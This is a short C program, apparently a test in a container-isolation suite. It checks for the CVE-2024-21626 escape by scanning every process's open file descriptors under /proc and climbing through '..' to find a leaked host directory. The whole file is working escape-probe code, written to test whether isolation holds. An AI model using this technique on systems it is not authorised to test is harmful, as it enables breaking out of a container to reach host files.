// SPDX-License-Identifier: GPL-2.0-only
// CVE-2024-21626: a runtime forgot to close a directory of the host, and a process
// of the container went on from /proc/PID/fd/N.  All that is seen is tried.
// Modes: guest bare
// Not open: it needs a descriptor that the tools forgot.
#include <dirent.h>

#include "chroot/climb.h"

static void try_fd(const char *pid, const char *number)
{
	char name[600];
	int fd, up, i;
	struct stat st;

	snprintf(name, sizeof(name), "/proc/%s/fd/%s", pid, number);
	fd = open(name, O_PATH);
	for (i = 0; i < 64 && fd >= 0; i++) {
		if (fstat(fd, &st) || !S_ISDIR(st.st_mode))
			break;
		if (file_has_secret(fd))
			worked(name);
		up = openat(fd, "..", O_PATH | O_DIRECTORY);
		close(fd);
		fd = up;
	}
	if (fd >= 0)
		close(fd);
}

int main(void)
{
	struct dirent *process, *number;
	DIR *proc = opendir("/proc"), *fds;
	char name[300];

	NEED(proc);
	while ((process = readdir(proc))) {
		if (process->d_name[0] < '1' || process->d_name[0] > '9')
			continue;
		snprintf(name, sizeof(name), "/proc/%s/fd", process->d_name);
		fds = opendir(name);
		while (fds && (number = readdir(fds)))
			if (number->d_name[0] != '.')
				try_fd(process->d_name, number->d_name);
		if (fds)
			closedir(fds);
	}
	harmless("no descriptor leads out");
}
